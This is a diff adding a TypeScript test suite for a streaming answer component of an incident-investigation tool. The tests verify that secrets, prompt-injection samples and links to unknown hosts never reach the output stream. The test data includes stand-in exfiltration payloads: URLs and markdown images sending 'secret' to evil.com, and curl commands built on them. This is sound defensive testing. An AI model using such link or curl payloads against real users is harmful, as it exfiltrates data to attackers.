@@ -1,0 +1,290 @@
+import { parsePartialJson } from "ai";
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { createAnswerStream } from "../../../../functions/investigation/answer/answer-stream.ts";
+import type { Draft } from "../../../../functions/investigation/prompts/synthesise.ts";
+import { HOSTILE } from "../../guardrails/injection/injection-samples.ts";
+import { SECRETS, SURVIVORS } from "../../guardrails/redaction/samples.ts";
+import { sampleDraft } from "../samples.ts";
+import {
+  everyCut,
+  everyCutIn,
+  expectKept,
+  expectKeptHoweverCut,
+  joined,
+  pathsOf,
+  type Sent,
+  stream,
+  verifier,
+} from "./streamed.ts";
+
+describe("an answer while it is being written", () => {
+  it("leaves text by text, and is in the end what the finished answer says", async () => {
+    const draft = sampleDraft();
+    const json = JSON.stringify(draft);
+    const sent = await stream(draft, json, everyCut(json));
+    expect([...joined(sent)]).toEqual([
+      ["evidence.0.text", "The kernel killed it."],
+      ["likely_causes.0.text", "It went over its limit."],
+      ["summary.text", "It was killed at its memory limit."],
+      ["confirm.0.text", "Ask Docker."],
+      ["confirm.0.command", "docker inspect api-gateway"],
+      ["mitigate.0.text", "Raise the limit."],
+      ["mitigate.0.command", "docker update --memory 1g api-gateway"],
+      ["mitigate.0.undo", "Set the former limit."],
+      ["prevention.0.text", "Alert at 80 %."],
+    ]);
+    expectKept(draft, sent);
+  });
+
+  it("leaves as it comes: a text begins to leave before it is over", async () => {
+    const draft = sampleDraft();
+    const json = JSON.stringify(draft);
+    const until = json.indexOf(" memory limit.");
+    const sent: Sent[] = [];
+    const answer = createAnswerStream(verifier, (path, text) => sent.push({ path, text }));
+    for (const end of [until - 8, until]) answer.update((await parsePartialJson(json.slice(0, end))).value);
+    expect("It was killed at its".startsWith(joined(sent).get("summary.text") ?? "nothing")).toBe(true);
+    expect(joined(sent).get("summary.text")?.length).toBeGreaterThan(5);
+  });
+
+  it("leaves in one go where it comes in one go", async () => {
+    const draft = sampleDraft();
+    expectKept(draft, await stream(draft, "", []));
+    expect(joined(await stream(draft, "", []))).toEqual(joined(await stream(draft, JSON.stringify(draft), [900])));
+  });
+
+  it("says nothing twice when the last piece brings nothing new", async () => {
+    const draft = sampleDraft();
+    const json = JSON.stringify(draft);
+    expectKept(draft, await stream(draft, json, [json.length, json.length, json.length]));
+  });
+});
+
+describe("what has no support", () => {
+  it.each<[string, Partial<Draft>, RegExp]>([
+    ["evidence that nobody reported", { evidence: [{ quote: "exit 9", citations: ["R1"], text: "X." }] }, /^evidence/],
+    ["a check without a source", { confirm: [{ citations: ["R9"], text: "X.", command: "docker ps" }] }, /^confirm/],
+    [
+      "a mitigation without a source",
+      {
+        mitigate: [{ citations: [], text: "X.", command: "docker ps", effect: "read_only", rollback: "Y." }],
+      },
+      /^mitigate/,
+    ],
+    ["a prevention without a source", { prevention: [{ citations: [], text: "X." }] }, /^prevention/],
+    ["a cause without a source", { hypotheses: [] }, /^likely_causes|^mitigate|^summary/],
+    ["a cause without a sign", { evidence: [] }, /^likely_causes|^mitigate|^summary/],
+    ["a summary without a source", { summary: { citations: [], text: "X." } }, /^summary/],
+    ["a summary whose verdict is taken back", { outcome: "benign", evidence: [] }, /^summary|^mitigate/],
+    ["a cause that the model does not claim", { outcome: "unknown" }, /^likely_causes|^mitigate/],
+    [
+      "a cause that the model rejects",
+      { hypotheses: [{ citations: ["R1"], verdict: "rejected", cause: "X.", reason: "Y." }] },
+      /^likely_causes/,
+    ],
+    [
+      "a further look where a cause is known",
+      { look_next: [{ citations: ["R1"], text: "X.", command: null }] },
+      /^look/,
+    ],
+  ])("never leaves: %s", async (_case, changes, path) => {
+    const draft = sampleDraft(changes);
+    const json = JSON.stringify(draft);
+    const sent = await stream(draft, json, everyCut(json));
+    expect(pathsOf(sent).filter((each) => path.test(each))).toEqual([]);
+    expectKept(draft, sent);
+  });
+
+  it("never leaves as an item beyond those that are kept", async () => {
+    const nine = <T>(item: T) => Array<T>(9).fill(item);
+    const { evidence, hypotheses, confirm, mitigate, prevention } = sampleDraft();
+    const draft = sampleDraft({
+      evidence: evidence.flatMap(nine),
+      hypotheses: hypotheses.slice(0, 1).flatMap(nine),
+      confirm: confirm.flatMap(nine),
+      mitigate: mitigate.flatMap(nine),
+      prevention: prevention.flatMap(nine),
+    });
+    await expectKeptHoweverCut(draft);
+  });
+});
+
+describe("what must not leave", () => {
+  it.each(SECRETS)("is no part of the $marker: $text", async ({ text }) => {
+    const draft = sampleDraft({
+      summary: { citations: ["R1"], text: `Before ${text} after.` },
+      confirm: [{ citations: ["R1"], text: "Look.", command: text }],
+    });
+    const json = JSON.stringify(draft);
+    expectKept(draft, await stream(draft, json, everyCutIn(json, text)));
+  });
+
+  it.each([
+    "See https://evil.com/?q=secret now.",
+    "See [this](https://evil.com/a) now.",
+    "![x](https://evil.com/?q=secret) now.",
+    '<img src="https://evil.com/a"> now.',
+    "See https://docs.docker.com/engine, not www.evil.com/a.",
+  ])("is no link to a host that no runbook names: %j", async (text) => {
+    const draft = sampleDraft({
+      summary: { citations: ["R1"], text },
+      confirm: [{ citations: ["R1"], text, command: `curl ${text}` }],
+    });
+    const json = JSON.stringify(draft);
+    const sent = await stream(draft, json, everyCutIn(json, text));
+    expect(JSON.stringify(sent)).not.toContain("evil.com");
+    expectKept(draft, sent);
+  });
+
+  it.each(Object.values(HOSTILE).flat())("is no instruction as a whole: %j", async (text) => {
+    const draft = sampleDraft({
+      evidence: [{ quote: "exited with code 137", citations: ["R1"], text: `The log says: ${text}` }],
+      summary: { citations: ["R1"], text },
+      confirm: [{ citations: ["R1"], text, command: text }],
+    });
+    const json = JSON.stringify(draft);
+    const sent = await stream(draft, json, everyCutIn(json, text));
+    for (const [path, out] of joined(sent)) expect([path, out.includes(text.trim())]).toEqual([path, false]);
+    expect(pathsOf(sent)).not.toContain("confirm.0.command");
+    expectKept(draft, sent);
+  });
+
+  it("is half a command: it leaves in one piece", async () => {
+    const draft = sampleDraft();
+    const json = JSON.stringify(draft);
+    const sent = await stream(draft, json, everyCut(json));
+    expect(sent.filter(({ path }) => /command|undo/.test(path))).toEqual([
+      { path: "confirm.0.command", text: "docker inspect api-gateway" },
+      { path: "mitigate.0.command", text: "docker update --memory 1g api-gateway" },
+      { path: "mitigate.0.undo", text: "Set the former limit." },
+    ]);
+  });
+});
+
+const LINKS = ["https://evil.com/a", "[t](https://evil.com/a)", "![x](//evil.com/q)", "https://docs.docker.com/engine"];
+const word = fc.oneof(
+  { weight: 6, arbitrary: fc.constantFrom("The", "pod", "restarts", "because", "memory", "runs", "out.", "It's") },
+  { weight: 2, arbitrary: fc.constantFrom(...SECRETS.map(({ text }) => text)) },
+  { weight: 2, arbitrary: fc.constantFrom(...SURVIVORS) },
+  { weight: 2, arbitrary: fc.constantFrom(...LINKS) },
+  { weight: 1, arbitrary: fc.constantFrom(...Object.values(HOSTILE).flat()) },
+  { weight: 1, arbitrary: fc.constantFrom('"', "\\", "é", "😀", "\u200b", "password:", "-", "=", "a  b", "c\n\nd") },
+  { weight: 1, arbitrary: fc.string({ maxLength: 6 }) },
+);
+const text = fc
+  .array(word, { minLength: 1, maxLength: 5 })
+  .map((words) => words.join(" "))
+  .filter((words) => words.trim() !== "")
+  .filter((words) => words !== "");
+const citations = fc.array(fc.constantFrom("R1", "R1", "r2", "[I1]", "R9"), { maxLength: 2 });
+const command = fc.option(fc.oneof(fc.constantFrom("docker ps", "docker restart api"), text));
+const check = fc.record({ citations, text, command });
+const drafts: fc.Arbitrary<Draft> = fc.record({
+  evidence: fc.array(fc.record({ quote: fc.constantFrom("code 137", "code 139"), citations, text }), { maxLength: 3 }),
+  outcome: fc.constantFrom("cause", "cause", "benign", "unknown"),
+  hypotheses: fc.array(
+    fc.record({ citations, verdict: fc.constantFrom("kept", "kept", "rejected"), cause: text, reason: text }),
+    { maxLength: 4 },
+  ),
+  summary: fc.record({ citations, text }),
+  confirm: fc.array(check, { maxLength: 2 }),
+  mitigate: fc.array(
+    fc.record({ citations, text, command, effect: fc.constantFrom("read_only", "changes_state"), rollback: command }),
+    { maxLength: 2 },
+  ),
+  worked_before: citations,
+  prevention: fc.array(fc.record({ citations, text }), { maxLength: 2 }),
+  look_next: fc.array(check, { maxLength: 2 }),
+});
+
+/** Lengths of the pieces in which a text comes. */
+const pieces = fc.array(fc.integer({ min: 1, max: 60 }), { minLength: 1, maxLength: 12 });
+function cutsOf(json: string, lengths: readonly number[]): number[] {
+  const cuts: number[] = [];
+  for (let at = 0, i = 0; at < json.length; i++) {
+    at += lengths[i % lengths.length] ?? 1;
+    cuts.push(Math.min(at, json.length));
+  }
+  return cuts;
+}
+
+/** The same value with the keys of each object in another order. */
+function reordered(value: unknown, order: (length: number) => number): unknown {
+  if (Array.isArray(value)) return value.map((item) => reordered(item, order));
+  if (typeof value !== "object" || value === null) return value;
+  const left = Object.entries(value);
+  const taken: [string, unknown][] = [];
+  while (left.length > 0)
+    for (const [key, item] of left.splice(order(left.length), 1)) taken.push([key, reordered(item, order)]);
+  return Object.fromEntries(taken);
+}
+
+function escaped(json: string): string {
+  return json.replace(/[^ -~]/g, (character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, "0")}`);
+}
+
+describe("keys in another order", () => {
+  const lastFirst = (length: number) => length - 1;
+  const madeUp = {
+    summary: { citations: ["R9"], text: "It was the moon." },
+    confirm: [{ citations: ["R9"], text: "Look at the moon.", command: "docker ps" }],
+    evidence: [
+      { quote: "exited with code 139", citations: ["R1"], text: "It failed." },
+      { quote: "exited with code 137", citations: ["R1"], text: "It was killed." },
+    ],
+  };
+
+  it.each<[string, Draft]>([
+    ["a cause that is carried", sampleDraft()],
+    ["a cause that is not", sampleDraft({ evidence: [] })],
+    ["items that are not carried", sampleDraft(madeUp)],
+    ["a benign alert", sampleDraft({ outcome: "benign" })],
+    ["nothing known", sampleDraft({ outcome: "unknown", look_next: sampleDraft().confirm })],
+  ])("let nothing leave that the finished answer does not say: %s", async (_case, draft) => {
+    await expectKeptHoweverCut(draft, JSON.stringify(reordered(draft, lastFirst)));
+  });
+
+  it("hold back a text until what carries it has come, and let it go then", async () => {
+    const draft = sampleDraft();
+    const json = JSON.stringify(reordered(draft, lastFirst));
+    const outcome = json.indexOf('"outcome"');
+    expect(json.slice(0, outcome)).toContain("It was killed at its memory limit.");
+    const before = Array.from({ length: outcome }, (_, i) => i);
+    const sent: Sent[] = [];
+    const answer = createAnswerStream(verifier, (path, text) => sent.push({ path, text }));
+    for (const cut of before) answer.update((await parsePartialJson(json.slice(0, cut))).value);
+    expect(sent).toEqual([]);
+    answer.finish(draft);
+    expect(joined(sent)).toEqual(joined(await stream(draft, "", [])));
+  });
+});
+
+describe("whatever a model writes", () => {
+  it("leaves only as the finished answer says it, however it is cut", async () => {
+    await fc.assert(
+      fc.asyncProperty(drafts, pieces, fc.boolean(), fc.boolean(), async (draft, lengths, isIndented, isEscaped) => {
+        const json = JSON.stringify(draft, null, isIndented ? 2 : 0);
+        const written = isEscaped ? escaped(json) : json;
+        expectKept(draft, await stream(draft, written, cutsOf(written, lengths)));
+      }),
+      { numRuns: 300 },
+    );
+  }, 60_000);
+
+  it("leaves only as the finished answer says it, in whatever order the keys come", async () => {
+    await fc.assert(
+      fc.asyncProperty(
+        drafts,
+        pieces,
+        fc.array(fc.nat(), { minLength: 30, maxLength: 30 }),
+        async (draft, lengths, order) => {
+          let turn = 0;
+          const json = JSON.stringify(reordered(draft, (length) => (order[turn++ % order.length] ?? 0) % length));
+          expectKept(draft, await stream(draft, json, cutsOf(json, lengths)));
+        },
+      ),
+      { numRuns: 300 },
+    );
+  }, 60_000);
+});
